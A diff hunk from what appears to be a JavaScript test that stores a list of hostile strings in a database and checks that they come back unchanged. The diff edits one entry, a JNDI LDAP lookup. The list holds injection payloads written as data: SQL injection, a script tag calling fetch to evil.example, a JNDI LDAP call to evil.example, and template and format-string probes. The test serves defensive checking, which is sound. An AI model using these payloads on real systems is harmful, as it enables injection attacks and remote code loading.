@@ -109,7 +109,7 @@ test('S12, S14: what peers wrote comes back from the database as they wrote it, 
     '" OR 1=1 --',
     '<script>fetch("//evil.example")</script>',
     'a|b,c;d\ne\0\u001b[2J',
-    '${jndi:ldap://evil.example/x} {{7*7}} %s%n',
+    '%{jndi:ldap://evil.example/x} {{7*7}} %s%n',
   ];
   await withStore(options, async (store) => {
     for (const [i, text] of hostile.entries()) {
